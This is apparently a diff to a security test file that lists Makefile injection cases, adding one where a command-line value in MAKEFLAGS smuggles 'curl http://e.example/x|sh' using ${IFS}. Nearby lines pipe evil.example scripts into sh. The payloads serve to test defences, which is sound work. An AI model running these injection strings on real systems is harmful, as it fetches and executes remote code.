@@ -83,6 +83,8 @@ ATTACKS = {
     "include of a glob": [("evil.mk", f"x:\n\t{P}\n"), ("Makefile", "include *.mk\nall: ; @echo main\n"), "make x"],
     ".SECONDEXPANSION runs a $$(shell) of a prerequisite": [
         ("Makefile", ".SECONDEXPANSION:\nall: $$(shell touch marker)\n\t@echo hi\n"), "make"],
+    "a command-line value in MAKEFLAGS, echoed by a recipe": [
+        ("Makefile", "all:\n\t@echo $(MAKEFLAGS)\n"), "make 'X=1;touch${IFS}marker;curl${IFS}-s${IFS}http://e.example/x|sh'"],
     "an @ the expansion uncovers": [("Makefile", "X = @curl -s http://evil.example/x | sh\nall:\n\t@touch marker\n"
                                                  "\t$(X)\n"), "make"],
 }
